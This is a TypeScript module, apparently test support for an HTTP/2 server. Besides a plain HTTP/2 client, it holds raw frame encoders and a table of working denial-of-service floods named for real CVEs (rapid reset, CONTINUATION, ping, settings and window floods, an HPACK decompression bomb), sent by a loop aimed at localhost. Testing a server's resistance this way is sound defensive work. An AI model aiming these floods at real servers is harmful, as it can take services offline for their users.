import { once } from 'node:events';
import http2 from 'node:http2';
import tls from 'node:tls';

/** One HTTP/2 connection, as a page opens it. */
export class Http2Client {
  readonly session: http2.ClientHttp2Session;

  constructor(origin: string) {
    this.session = http2.connect(origin, { rejectUnauthorized: false });
    this.session.on('error', () => {});
  }

  async ask(
    path: string,
    { method = 'GET', body = '', ...headers }: Record<string, string> = {},
  ): Promise<{ status: number; text: string }> {
    const stream = this.session.request({ ':path': path, ':method': method, ...headers });
    stream.setEncoding('utf8');
    let text = '';
    stream.on('data', (part: string) => {
      text += part;
    });
    stream.end(body);
    const [answer] = await once(stream, 'response');
    await once(stream, 'end');
    return { status: Number(answer[':status']), text };
  }

  /** Opens an event stream. Collects its data as it arrives. */
  async listen(path: string, headers: Record<string, string> = {}): Promise<Http2Events> {
    const stream = this.session.request({ ':path': path, ...headers });
    const events = new Http2Events(stream);
    const [answer] = await once(stream, 'response');
    events.status = Number(answer[':status']);
    return events;
  }

  close(): void {
    this.session.destroy();
  }
}

export class Http2Events {
  status = 0;
  text = '';
  ended = false;
  readonly #stream: http2.ClientHttp2Stream;

  constructor(stream: http2.ClientHttp2Stream) {
    this.#stream = stream;
    stream.setEncoding('utf8');
    stream.on('error', () => {});
    stream.on('data', (part: string) => {
      this.text += part;
    });
    stream.on('close', () => {
      this.ended = true;
    });
  }

  get messages(): string[] {
    return [...this.text.matchAll(/"message":"([^"]*)"/g)].map(([, text = '']) => text);
  }

  get ids(): string[] {
    return [...this.text.matchAll(/^id: (\d+)$/gm)].map(([, id = '']) => id);
  }

  close(): void {
    this.#stream.close(http2.constants.NGHTTP2_CANCEL);
  }
}

const number32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
};

/** Encodes one frame of any content (RFC 9113, section 4.1). */
export function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(5);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  return Buffer.concat([head, number32(stream), payload]);
}

/**
 * Encodes a block of fields without compression (RFC 7541, section 6.2.2). Names and values must be
 * shorter than 127 bytes.
 */
export function fields(list: readonly (readonly [string, string])[]): Buffer {
  return Buffer.concat(
    list.flatMap(([name, value]) => [
      Buffer.from([0, name.length]),
      Buffer.from(name),
      Buffer.from([value.length]),
      Buffer.from(value),
    ]),
  );
}

export const request = (path: string, method = 'GET'): Buffer =>
  fields([
    [':method', method],
    [':scheme', 'https'],
    [':authority', '127.0.0.1'],
    [':path', path],
  ]);

const none = Buffer.alloc(0);
const open = (stream: number, path: string, ends = true): Buffer =>
  frame(1, ends ? 5 : 4, stream, request(path));
const odd = (turn: number): number => 2 * turn + 1;
/** Returns an unused client id, so that no limit per id applies. */
const nobody = (stream: number): string =>
  `/bridge/events?client_id=${stream.toString(16).padStart(64, 'f')}`;
const bomb = Buffer.concat([
  request('/'),
  // A field of 4,000 bytes enters the table, and each following byte repeats it.
  Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]),
  Buffer.alloc(4_000, 'v'),
  Buffer.alloc(11_000, 0xbe),
]);

/** Frames that an attacker sends repeatedly after the preface, by round. */
export const floods: Readonly<Record<string, (turn: number) => Buffer>> = {
  'rapid reset (CVE-2023-44487)': (turn) =>
    Buffer.concat([open(odd(turn), nobody(turn)), frame(3, 0, odd(turn), number32(8))]),
  'made you reset (CVE-2025-8671)': (turn) =>
    Buffer.concat([open(odd(turn), nobody(turn)), frame(8, 0, odd(turn), number32(0))]),
  'continuations (CVE-2024-27316, CVE-2024-28182)': (turn) =>
    turn === 0 ? frame(1, 0, 1, request('/')) : frame(9, 0, 1, fields([['x', 'y'.repeat(100)]])),
  'settings (CVE-2019-9515)': () => frame(4, 0, 0, none),
  'pings (CVE-2019-9512)': () => frame(6, 0, 0, Buffer.alloc(8)),
  'resets of nothing (CVE-2019-9514)': (turn) =>
    Buffer.concat([open(odd(turn), '/', false), open(odd(turn), '/')]),
  'empty data (CVE-2019-9518)': (turn) =>
    turn === 0 ? open(1, '/bridge/message', false) : frame(0, 0, 1, none),
  'names of no length (CVE-2019-9516)': (turn) => frame(1, 5, odd(turn), Buffer.alloc(3 * 5_000)),
  'priorities (CVE-2019-9513)': (turn) =>
    frame(2, 0, odd(turn + 1), Buffer.concat([number32(odd(turn)), Buffer.from([turn % 256])])),
  'heads that unpack': (turn) => frame(1, 5, odd(turn), bomb),
  'frames of no kind': () => frame(0x77, 0, 0, Buffer.alloc(16_000)),
  'windows of one byte (CVE-2019-9511)': (turn) =>
    turn === 0
      ? Buffer.concat([
          frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0])),
          ...Array.from({ length: 50 }, (_, number) => open(odd(number), '/')),
        ])
      : frame(8, 0, odd(turn % 50), number32(1)),
};

/** Sends a flood on one connection until the server closes it, or `over()` is true. */
export async function flood(
  port: number,
  say: (turn: number) => Buffer,
  over: () => boolean,
): Promise<void> {
  const socket = tls.connect({
    host: '127.0.0.1',
    port,
    ALPNProtocols: ['h2'],
    rejectUnauthorized: false,
  });
  socket.on('error', () => {});
  let closed = false;
  socket.on('close', () => {
    closed = true;
  });
  socket.on('end', () => socket.destroy());
  socket.resume();
  await Promise.race([once(socket, 'secureConnect'), once(socket, 'close')]).catch(() => {});
  socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  socket.write(frame(4, 0, 0, none));
  for (let turn = 0; !closed && !over(); ) {
    const many = [];
    for (let size = 0; size < 60_000; turn += 1) {
      const said = say(turn);
      size += said.length;
      many.push(said);
    }
    if (!socket.write(Buffer.concat(many))) {
      await Promise.race([
        once(socket, 'drain'),
        once(socket, 'close'),
        new Promise((later) => setTimeout(later, 200)),
      ]).catch(() => {});
    }
    await new Promise((next) => setImmediate(next));
  }
  socket.destroy();
}
